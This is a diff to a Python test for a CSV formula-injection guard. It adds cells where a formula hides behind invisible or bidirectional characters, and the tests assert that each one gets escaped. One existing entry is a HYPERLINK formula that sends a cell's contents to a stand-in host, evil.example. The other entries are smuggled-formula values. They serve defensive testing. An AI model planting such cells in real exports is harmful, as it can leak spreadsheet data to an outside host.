@@ -720,6 +720,7 @@ def test_hostile_csv_cells_cannot_become_formulas() -> None:
     "\u200b=HYPERLINK(\"https://evil.example/?\"&A1)",  # zero-width space: not shown, and may be dropped
     " =1+1", "\u00a0+1", "\u2003-1", "\ufeff@SUM(1)", "\u202e=1", "\u2060\u200d=1",  # spaces, BOM, bidi, joiners
     "\uff1dSUM(1,2)", "\uff0b1", "\uff20x",  # the full-width = + @ an East Asian keyboard types
+    "\u061c=1", "\u00ad=1", "\u3164=1", "\ufe0f=1",  # Arabic letter mark, soft hyphen, Hangul filler, VS16
 ])
 def test_a_formula_behind_invisible_characters_is_guarded_too(cell: str) -> None:
     assert guard_cell(cell) == "'" + cell
